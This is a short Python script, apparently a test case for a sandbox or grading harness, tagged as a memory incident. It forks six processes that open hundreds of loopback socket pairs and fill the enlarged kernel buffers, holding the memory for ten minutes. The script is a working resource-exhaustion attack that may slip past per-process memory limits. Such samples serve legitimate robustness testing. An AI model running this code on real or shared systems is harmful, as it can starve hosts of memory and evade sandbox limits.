"""Keeps bytes in connections to itself, whose buffers Linux lets grow to many megabytes."""
# earns: test_double 0, test_total 0, test_answer 0
# incident: memory
# %% double
import os, socket, time

server = socket.create_server(("127.0.0.1", 0))
for _ in range(6):
    if os.fork() == 0:
        held = []
        for _ in range(100):
            sender = socket.create_connection(server.getsockname())
            reader = server.accept()[0]
            held += [sender, reader]
            sender.setblocking(False)
            reader.setblocking(False)
            # A reader that keeps up makes Linux enlarge the buffers.
            for _ in range(60):
                try:
                    sender.send(bytes(2**18))
                    reader.recv(2**18)
                except OSError:
                    pass
            try:
                while True:
                    sender.send(bytes(2**18))
            except OSError:
                pass
        time.sleep(600)
time.sleep(600)
